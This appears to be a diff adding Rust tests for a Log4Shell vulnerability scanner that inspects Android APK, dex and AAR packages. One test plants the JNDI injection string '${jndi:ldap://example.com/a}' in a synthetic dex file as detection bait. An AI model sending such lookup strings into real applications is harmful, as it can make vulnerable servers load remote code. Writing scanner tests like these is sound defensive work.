@@ -0,0 +1,114 @@
+use serde_json::Value;
+use std::fs;
+use std::io::{Cursor, Write};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use zip::write::FileOptions;
+
+const SCANNER: &str = env!("CARGO_BIN_EXE_cve_2021_44228_scanner");
+
+fn fixture(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures").join(name)
+}
+
+/// A dex file of just a header and the string table of `strings`
+fn dex(strings: &[&str]) -> Vec<u8> {
+    const HEADER_SIZE: usize = 0x70;
+    let mut data = vec![0u8; HEADER_SIZE];
+    data[..8].copy_from_slice(b"dex\n035\0");
+    data[0x38..0x3C].copy_from_slice(&(strings.len() as u32).to_le_bytes());
+    data[0x3C..0x40].copy_from_slice(&(HEADER_SIZE as u32).to_le_bytes());
+    let mut items = Vec::new();
+    let items_start = HEADER_SIZE + strings.len() * 4;
+    for string in strings {
+        data.extend_from_slice(&((items_start + items.len()) as u32).to_le_bytes());
+        items.push(string.len() as u8);
+        items.extend_from_slice(string.as_bytes());
+        items.push(0);
+    }
+    data.extend(items);
+    data
+}
+
+fn write_apk(path: &Path, entries: &[(&str, Vec<u8>)]) {
+    let mut apk = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    for (name, contents) in entries {
+        apk.start_file(*name, FileOptions::default()).unwrap();
+        apk.write_all(contents).unwrap();
+    }
+    fs::write(path, apk.finish().unwrap().into_inner()).unwrap();
+}
+
+fn results(path: &Path) -> Vec<Value> {
+    let output = Command::new(SCANNER).arg("--path").arg(path).args(["--format", "json"]).output().unwrap();
+    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
+    report["results"].as_array().unwrap().clone()
+}
+
+#[test]
+fn apk_dex_finding_names_the_descriptor_and_its_string_index() {
+    let results = results(&fixture("log4j-fixture.apk"));
+    assert_eq!(results.len(), 1, "{:?}", results);
+    assert!(results[0]["file_path"].as_str().unwrap().ends_with("log4j-fixture.apk!classes.dex"));
+    assert_eq!(results[0]["rule_id"], "dex-jndi-lookup-class");
+    assert_eq!(results[0]["severity"], "Critical");
+    assert_eq!(results[0]["reason"], "JndiLookup class in Dalvik bytecode: Lorg/apache/logging/log4j/core/lookup/JndiLookup; at dex string index 3");
+}
+
+/// Every `.dex` of a multidex package is searched, for lookup strings as well
+#[test]
+fn lookup_string_in_a_secondary_dex_is_found() {
+    let dir = tempfile::tempdir().unwrap();
+    let apk = dir.path().join("app.apk");
+    write_apk(&apk, &[
+        ("classes.dex", dex(&["Ljava/lang/Object;"])),
+        ("classes2.dex", dex(&["Ljava/lang/String;", "${jndi:ldap://example.com/a}"])),
+    ]);
+    let results = results(&apk);
+    assert_eq!(results.len(), 1, "{:?}", results);
+    assert!(results[0]["file_path"].as_str().unwrap().ends_with("app.apk!classes2.dex"));
+    assert_eq!(results[0]["rule_id"], "dex-jndi-string");
+    assert_eq!(results[0]["reason"], "JNDI lookup string in Dalvik bytecode: ${jndi:ldap://example.com/a} at dex string index 1");
+}
+
+#[test]
+fn apk_without_log4j_has_no_findings() {
+    let dir = tempfile::tempdir().unwrap();
+    let apk = dir.path().join("app.apk");
+    write_apk(&apk, &[
+        ("classes.dex", dex(&["Ljava/lang/Object;", "Lorg/apache/logging/log4j/Logger;", "jndi"])),
+        ("assets/notes.txt", b"Lorg/apache/logging/log4j/core/lookup/JndiLookup;".to_vec()),
+    ]);
+    assert!(results(&apk).iter().all(|r| r["vulnerable"] == false));
+}
+
+/// A dex whose string table cannot be read makes the package an error
+#[test]
+fn malformed_dex_is_an_error() {
+    let dir = tempfile::tempdir().unwrap();
+    let apk = dir.path().join("app.apk");
+    write_apk(&apk, &[("classes.dex", b"dex\n035\0".to_vec())]);
+    let results = results(&apk);
+    assert_eq!(results.len(), 1, "{:?}", results);
+    assert_eq!(results[0]["status"], "Error");
+    assert!(results[0]["reason"].as_str().unwrap().contains("truncated dex header"), "{}", results[0]);
+}
+
+#[test]
+fn bundled_jar_of_an_apk_is_scanned() {
+    let dir = tempfile::tempdir().unwrap();
+    let apk = dir.path().join("app.apk");
+    write_apk(&apk, &[("assets/plugin/log4j-core.jar", fs::read(fixture("log4j-fixture.jar")).unwrap())]);
+    let results = results(&apk);
+    assert!(results.iter().any(|r| r["vulnerable"] == true
+        && r["file_path"].as_str().unwrap().ends_with("app.apk!assets/plugin/log4j-core.jar")), "{:?}", results);
+}
+
+#[test]
+fn aar_classes_jar_is_scanned() {
+    let results = results(&fixture("log4j-fixture.aar"));
+    assert_eq!(results.len(), 1, "{:?}", results);
+    assert!(results[0]["file_path"].as_str().unwrap().ends_with("log4j-fixture.aar!classes.jar"));
+    assert_eq!(results[0]["rule_id"], "log4j-jndi-lookup-entry");
+    assert_eq!(results[0]["inner_path"], "classes.jar");
+}